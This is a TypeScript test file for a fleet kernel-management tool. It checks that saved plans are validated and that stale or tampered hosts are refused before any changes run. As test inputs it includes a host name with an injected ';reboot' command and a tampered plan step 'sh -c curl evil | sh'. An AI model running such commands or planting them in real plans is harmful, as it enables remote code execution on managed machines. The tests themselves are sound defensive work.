/**
 * Fleet saved plans in the engine: what `plan --out` saves for an inventory's hosts, how `apply
 * FILE` reads it back (bounded, every host's address read as --host reads it, the files it names
 * checked), takes its hosts from it (a --host or --inventory that differs is refused before
 * connecting), and holds each host to its saved plan: a stale or tampered host, or one the plan
 * does not have, is refused by name while the rest go through the usual rollout (batches, the
 * failure budget). Plans are the planner's golden cases; hosts are fakes (no process).
 */
import { mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Manifest } from '../../../src/compile/build.js';
import { Rollout } from '../../../src/engine/apply.js';
import { PlanMismatchError, StalePlanError, UserError } from '../../../src/engine/errors.js';
import type { FleetHost, PlanningSession } from '../../../src/engine/planning.js';
import {
  adoptSavedPlan,
  checkSavedSelection,
  MAX_PLAN_BYTES,
  planSaved,
  readSavedPlan,
  replanCommand,
  savedPlanDocument,
  savedTargets,
  targetsForSaving,
} from '../../../src/engine/saved-plan.js';
import type { Target } from '../../../src/engine/targets.js';
import { formatHostAddress, parseHostAddress, type SshAddress } from '../../../src/host/address.js';
import type { SavedHostPlan, SavedPlan } from '../../../src/plan/types.js';
import { fakeArtifactsDir, fakeManifest } from '../../helpers/fake-artifacts.js';
import { CWD, ENV, plannedHost, savedOf, target, unreachableHost } from '../../helpers/saved-plans.js';

const tmp = mkdtempSync(join(tmpdir(), 'kf-saved-plan-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const here = { cwd: tmp, env: { HOME: '/nonexistent-home' } };

/** A fleet as `plan --inventory inventory.yml --out` saves it: two planned hosts and one it could not reach. */
function fleet(): SavedPlan {
  return savedOf([
    plannedHost('web-1', 'fresh-grub'),
    plannedHost('web-2', 'fresh-grub'),
    unreachableHost('db-1'),
  ]);
}

function errorOf(f: () => unknown): Error {
  try {
    f();
  } catch (e) {
    return e as Error;
  }
  throw new Error('expected a refusal');
}

describe('plan --out saves every selected host', () => {
  it('kernelfiles relative to the working directory; refused when one is outside it, or read from stdin', () => {
    // plan --out plans the targets with their kernelfile named as the plan saves it (the path is in
    // the receipt the plan writes, and apply reads the kernelfile from there).
    const [inside] = targetsForSaving([target('web-1', { kernelfile: `${CWD}/k/web.yaml` })], ENV);
    expect(inside?.kernelfile).toBe('k/web.yaml');
    const e = errorOf(() => targetsForSaving([target('web-1', { kernelfile: '/etc/kernelfile.yaml' })], ENV));
    expect(e).toBeInstanceOf(UserError);
    expect(e.message).toBe(
      'cannot save the plan of web-1: its kernelfile /etc/kernelfile.yaml is outside the working directory',
    );
    expect((e as UserError).hint).toMatch(/run kernelfile from the directory that holds them/);
    expect(() => targetsForSaving([target('web-1', { kernelfile: '-' })], ENV)).toThrow(
      /read from standard input/,
    );
    expect(() =>
      savedPlanDocument([plannedHost('web-1', 'fresh-grub', { kernelfile: '../kf.yaml' })], {}, ENV),
    ).toThrow('cannot save the plan of web-1: its kernelfile ../kf.yaml is outside the working directory');
  });

  it('a host planned with another spelling of its kernelfile path is refused: apply would plan another receipt', () => {
    const abs = plannedHost('web-1', 'fresh-grub', { kernelfile: `${CWD}/k/web.yaml` });
    expect(() => savedPlanDocument([abs], {}, ENV)).toThrow(
      `cannot save the plan of web-1: it was made from ${CWD}/k/web.yaml, which \`apply FILE\` would read as k/web.yaml`,
    );
  });

  it('the selection it came from, in hints to plan again (values quoted for sh)', () => {
    const saved = savedOf([plannedHost('web-1', 'fresh-grub')], {
      inventory: 'inventory.yml',
      limit: 'web:!web-2',
    });
    expect(saved).toMatchObject({ inventory: 'inventory.yml', limit: 'web:!web-2' });
    expect(replanCommand(saved, 'plan.json')).toBe(
      "kernelfile plan --inventory inventory.yml --limit 'web:!web-2' --out plan.json",
    );
    const one = savedOf([plannedHost('web-1', 'fresh-grub')], {});
    expect(replanCommand(one, 'my plan.json', one.hosts[0])).toBe(
      "kernelfile plan kernelfile.yaml --host web-1 --out 'my plan.json'",
    );
  });
});

describe('readSavedPlan: the file is data', () => {
  const file = (name: string, text: string) => {
    writeFileSync(join(tmp, name), text);
    return name;
  };

  it('reads back what plan --out wrote', () => {
    const saved = fleet();
    expect(readSavedPlan(file('fleet.json', JSON.stringify(saved)), here)?.hosts.map((h) => h.name)).toEqual([
      'web-1',
      'web-2',
      'db-1',
    ]);
  });

  it('a kernelfile, a directory or a missing file is not a plan: undefined (apply reads a kernelfile)', () => {
    expect(readSavedPlan(file('kernelfile.yaml', 'apiVersion: kernelfile/v1\n'), here)).toBeUndefined();
    mkdirSync(join(tmp, 'dir.json'), { recursive: true });
    expect(readSavedPlan('dir.json', here)).toBeUndefined();
    expect(readSavedPlan('missing.json', here)).toBeUndefined();
  });

  it('JSON that is not a usable plan is refused, naming the file and saying to plan again', () => {
    const e = errorOf(() => readSavedPlan(file('facts.json', '{"factsVersion": 1}'), here));
    expect(e).toBeInstanceOf(UserError);
    expect(e.message).toBe(
      'facts.json is not a usable plan: not a kernelfile plan (no "kind": "kernelfile-plan")',
    );
    expect((e as UserError).hint).toBe('make a new one with `kernelfile plan … --out FILE`');
  });

  it('a plan larger than the limit is refused unread', () => {
    const name = file('huge.json', '{"kind": "kernelfile-plan", ');
    truncateSync(join(tmp, name), MAX_PLAN_BYTES + 1); // sparse: nothing is written
    expect(() => readSavedPlan(name, here)).toThrow(
      `huge.json is not a usable plan: it is larger than ${MAX_PLAN_BYTES / 1048576} MiB`,
    );
  });
});

describe('apply FILE takes its hosts from the plan', () => {
  it('each host reached as the plan says: address, identity, become, SSH settings; never accept-new', () => {
    const web2: Partial<Target> = {
      address: { ...(parseHostAddress('ssh://deploy@10.0.0.12:2222') as SshAddress), become: true },
      hostOptions: { sshConfig: 'none', knownHosts: ['kh'], connectTimeoutMs: 5000, acceptNewHostKeys: true },
    };
    const saved = savedOf([plannedHost('web-1', 'fresh-grub'), plannedHost('web-2', 'fresh-grub', web2)]);
    const [a, b] = savedTargets(saved, 'plan.json', here).map((t) => t.target);
    expect(a).toMatchObject({ name: 'web-1', sudo: false, kernelfile: 'kernelfile.yaml' });
    expect(formatHostAddress(a?.address as Target['address'])).toBe('ssh://root@web-1:22');
    expect(b?.address).toMatchObject({
      kind: 'ssh',
      host: '10.0.0.12',
      user: 'deploy',
      port: 2222,
      become: true,
    });
    expect(b?.hostOptions).toMatchObject({
      sshConfig: 'none',
      knownHosts: ['kh'],
      connectTimeoutMs: 5000,
      acceptNewHostKeys: false,
      env: here.env,
    });
  });

  it('SSH settings given now replace the plan’s; --accept-new-host-keys comes only from now', () => {
    const saved = savedOf([
      plannedHost('web-1', 'fresh-grub', {
        hostOptions: { knownHosts: ['/plan/kh'], identities: ['/plan/key'] },
      }),
    ]);
    const [t] = savedTargets(saved, 'plan.json', here, {
      hostOptions: { knownHosts: ['/now/kh'], acceptNewHostKeys: true },
      sudo: true,
    }).map((x) => x.target);
    expect(t?.hostOptions).toMatchObject({
      knownHosts: ['/now/kh'],
      identities: ['/plan/key'],
      acceptNewHostKeys: true,
    });
    expect(t?.sudo).toBe(true);
  });

  const withConnection = (edit: (c: SavedPlan['hosts'][number]['connection']) => void): SavedPlan => {
    const saved = savedOf([plannedHost('web-1', 'fresh-grub')], {});
    edit((saved.hosts[0] as SavedHostPlan).connection);
    return saved;
  };

  it.each<[string, (c: SavedPlan['hosts'][number]['connection']) => void, string | RegExp]>([
    [
      'an address not written as kernelfile writes it',
      (c) => {
        c.host = 'root@web-1';
      },
      'the plan plan.json: host web-1: host "root@web-1" is not written as kernelfile writes it ("ssh://root@web-1")',
    ],
    [
      'a host name with shell characters',
      (c) => {
        c.host = 'ssh://root@web-1;reboot:22';
      },
      /the plan plan\.json: host web-1: cannot read a host name in --host ssh:\/\/root@web-1;reboot:22/,
    ],
    [
      'an identity file for this machine',
      (c) => {
        c.host = 'local';
        c.identity = '/root/.ssh/id_ed25519';
      },
      'the plan plan.json: host web-1: host local has an identity file or become, which only SSH hosts have',
    ],
    [
      'a directory as its identity file',
      (c) => {
        c.identity = tmp;
      },
      `the plan plan.json names the identity file ${tmp} for web-1, which is not a regular file`,
    ],
    [
      'a device as its known_hosts',
      (c) => {
        c.knownHosts = ['/dev/zero'];
      },
      'the plan plan.json names the known_hosts file /dev/zero for web-1, which is not a regular file',
    ],
  ])('%s: refused before connecting', (_, edit, message) => {
    const e = errorOf(() => savedTargets(withConnection(edit), 'plan.json', here));
    expect(e).toBeInstanceOf(UserError);
    if (typeof message === 'string') expect(e.message).toBe(message);
    else expect(e.message).toMatch(message);
  });

  it('a file the plan names that does not exist is left to ssh (which skips it)', () => {
    const saved = withConnection((c) => {
      c.identity = join(tmp, 'no-such-key');
    });
    expect(savedTargets(saved, 'plan.json', here)[0]?.target.address).toMatchObject({
      identity: join(tmp, 'no-such-key'),
    });
  });
});

describe('a --host or --inventory given with a plan must name its hosts', () => {
  const one = savedOf([plannedHost('web-1', 'fresh-grub')], {});

  it('--host: the same host passes; another is refused, naming both', () => {
    expect(() => checkSavedSelection(one, 'p.json', { host: 'ssh://root@web-1:22' }, here)).not.toThrow();
    expect(() => checkSavedSelection(one, 'p.json', {}, here)).not.toThrow();
    const e = errorOf(() => checkSavedSelection(one, 'p.json', { host: 'root@web-9' }, here));
    expect(e.message).toBe(
      '--host root@web-9 differs from the plan p.json, made for ssh://root@web-1:22. Nothing was changed',
    );
    expect((e as UserError).hint).toMatch(/apply the plan without host options/);
  });

  it('--host with a fleet plan: refused, naming its hosts', () => {
    expect(() => checkSavedSelection(fleet(), 'p.json', { host: 'ssh://root@web-1:22' }, here)).toThrow(
      '--host ssh://root@web-1:22: the plan p.json is for 3 hosts of inventory.yml (web-1, web-2, db-1). Nothing was changed',
    );
  });

  it('--inventory: the same hosts pass; other hosts, addresses or kernelfiles are named', () => {
    const inv = (name: string, hosts: string) => {
      writeFileSync(
        join(tmp, name),
        `all:\n  vars:\n    ansible_user: root\n    kernelfile: kernelfile.yaml\n  hosts:\n${hosts}`,
      );
      return name;
    };
    const same = inv('same.yml', '    web-1:\n    web-2:\n    db-1:\n');
    const saved = savedOf(
      [plannedHost('web-1', 'fresh-grub'), plannedHost('web-2', 'fresh-grub'), unreachableHost('db-1')],
      { inventory: same },
    );
    // The inventory's hosts on port 22 (what ssh would use): the plan's addresses name it.
    for (const h of saved.hosts) h.connection.host = h.connection.host.replace(':22', '');
    const shifted = saved;
    expect(() => checkSavedSelection(shifted, 'p.json', { inventory: same }, here)).not.toThrow();
    const limited = errorOf(() =>
      checkSavedSelection(shifted, 'p.json', { inventory: same, limit: 'web-1' }, here),
    );
    expect(limited.message).toBe(
      '--inventory same.yml --limit web-1 differs from the plan p.json: web-2, db-1 are in the plan but not selected. Nothing was changed',
    );
    const other = inv(
      'other.yml',
      '    web-1:\n      ansible_host: 10.9.9.9\n    web-2:\n    db-1:\n    web-3:\n',
    );
    const e = errorOf(() => checkSavedSelection(shifted, 'p.json', { inventory: other }, here));
    expect(e.message).toBe(
      '--inventory other.yml differs from the plan p.json: web-3 is not in the plan; web-1: the plan reaches it as ssh://root@web-1, the inventory as ssh://root@10.9.9.9. Nothing was changed',
    );
    const kf = inv('kf.yml', '    web-1:\n      kernelfile: other.yaml\n    web-2:\n    db-1:\n');
    expect(() => checkSavedSelection(shifted, 'p.json', { inventory: kf }, here)).toThrow(
      'web-1: the plan applies kernelfile.yaml, the inventory names other.yaml',
    );
  });
});

describe('each host held to its saved plan; the rest of the fleet goes on', () => {
  /** A session whose planAll returns these fresh plans (the hosts as apply plans them again). */
  const session = (fresh: FleetHost[]) =>
    ({
      planAll: async (targets: Target[]) =>
        targets.map((t) => fresh.find((h) => h.target.name === t.name) as FleetHost),
    }) as unknown as PlanningSession;

  function rollout(o: { serial?: string; maxFail?: string } = {}) {
    return new Rollout(
      {
        gather: async () => Promise.reject(new Error('no reconnect expected')),
        connect: async () => Promise.reject(new Error('no reconnect expected')),
        planTarget: async () => Promise.reject(new Error('no replan expected')),
      },
      { yes: true, ...o },
      {
        build: async (p) => ({
          dir: fakeArtifactsDir(tmp, p.buildId),
          manifest: fakeManifest(p.buildId, p.release, 1000) as Manifest,
        }),
        packSource: async () => {
          writeFileSync(join(tmp, 'source.tar'), 'a module source\n');
          return join(tmp, 'source.tar');
        },
        sleep: async () => {},
      },
    );
  }

  it('a stale host and a tampered one are refused by name; the others converge', async () => {
    const names = ['web-1', 'web-2', 'web-3', 'web-4'];
    const saved = savedOf([...names.map((n) => plannedHost(n, 'fresh-grub')), unreachableHost('db-1')]);
    // web-2 changed since the plan (another kernel appeared); web-3's saved plan was edited.
    const fresh = names.map((n) => plannedHost(n, 'fresh-grub'));
    const web2 = fresh[1] as ReturnType<typeof plannedHost>;
    web2.facts = { ...web2.facts, digest: 'e'.repeat(64) };
    web2.plan = { ...web2.plan, factsFamilies: { ...web2.plan.factsFamilies, kernels: 'changed' } };
    const tampered = saved.hosts[2] as SavedHostPlan;
    const write = tampered.plan.changes.flatMap((c) => c.steps).find((s) => s.kind === 'run');
    if (write?.kind === 'run') write.argv = ['sh', '-c', 'curl evil | sh'];
    const chosen = savedTargets(saved, 'plan.json', ENV);
    const hosts = await planSaved(session(fresh), saved, 'plan.json', chosen);
    expect(hosts.map((h) => [h.target.name, h.ok])).toEqual([
      ['web-1', true],
      ['web-2', false],
      ['web-3', false],
      ['web-4', true],
      ['db-1', false],
    ]);
    const [, stale, edited, , notPlanned] = hosts as Extract<FleetHost, { ok: false }>[];
    expect(stale?.cause).toBeInstanceOf(StalePlanError);
    expect(stale?.error).toBe(
      `the saved plan plan.json is stale for web-2: the facts of ${web2.plan.host} changed since the plan was made (kernels). Nothing was changed`,
    );
    expect(stale?.hint).toBe('review a new plan: kernelfile plan --inventory inventory.yml --out plan.json');
    expect(edited?.cause).toBeInstanceOf(PlanMismatchError);
    expect(edited?.error).toMatch(
      /^the saved plan plan\.json does not match a fresh plan for web-3: change .* step \d+ \(run sh -c curl evil \| sh\): argv sh -c curl evil \| sh, the fresh plan has .*\. Nothing was changed$/,
    );
    expect(notPlanned?.error).toBe(
      'not in the plan: it could not be planned when the plan was made (unreachable: cannot connect to ssh://root@db-1:22: no route to host)',
    );
    const res = await rollout().run(hosts);
    expect(res.outcomes.map((o) => [o.name, o.result])).toEqual([
      ['web-1', 'converged'],
      ['web-2', 'failed'],
      ['web-3', 'failed'],
      ['web-4', 'converged'],
      ['db-1', 'failed'],
    ]);
    // Nothing ran on the refused hosts.
    expect((fresh[1] as ReturnType<typeof plannedHost>).fake.calls).toEqual([]);
    expect((fresh[2] as ReturnType<typeof plannedHost>).fake.calls).toEqual([]);
  });

  it('refused hosts count against --max-fail like failed ones: the rollout stops', async () => {
    const names = ['a', 'b', 'c', 'd'];
    const saved = savedOf(names.map((n) => plannedHost(n, 'fresh-grub')));
    const fresh = names.map((n) => plannedHost(n, 'fresh-grub'));
    for (const h of fresh.slice(1, 3)) h.facts = { ...h.facts, digest: 'e'.repeat(64) };
    const hosts = await planSaved(session(fresh), saved, 'plan.json', savedTargets(saved, 'plan.json', ENV));
    const res = await rollout({ serial: '1', maxFail: '25%' }).run(hosts);
    expect(res.outcomes.map((o) => [o.name, o.result])).toEqual([
      ['a', 'converged'],
      ['b', 'failed'],
      ['c', 'failed'],
      ['d', 'skipped'],
    ]);
    expect(res.outcomes[3]?.detail).toMatch(/2 of 4 hosts failed, more than --max-fail 25% allows/);
  });

  it('a host the plan does not have is refused: the plan applies to its own hosts only', () => {
    const saved = savedOf([plannedHost('web-1', 'fresh-grub')], {});
    const stranger = plannedHost('web-9', 'fresh-grub');
    const e = errorOf(() => adoptSavedPlan(stranger, saved, 'plan.json'));
    expect(e.message).toBe('the plan plan.json has no plan for web-9');
    expect((e as UserError).hint).toBe(
      'plan.json has plans for web-1; plan web-9 with `kernelfile plan … --out FILE`',
    );
  });

  it('one-host plans take their host from the file, never `local`', () => {
    const saved = savedOf([plannedHost('web-1', 'fresh-grub')], {});
    const [t] = savedTargets(saved, 'plan.json', ENV);
    expect(t?.target.name).toBe('web-1');
    expect(t?.target.address).toMatchObject({ kind: 'ssh', host: 'web-1', user: 'root', port: 22 });
  });
});
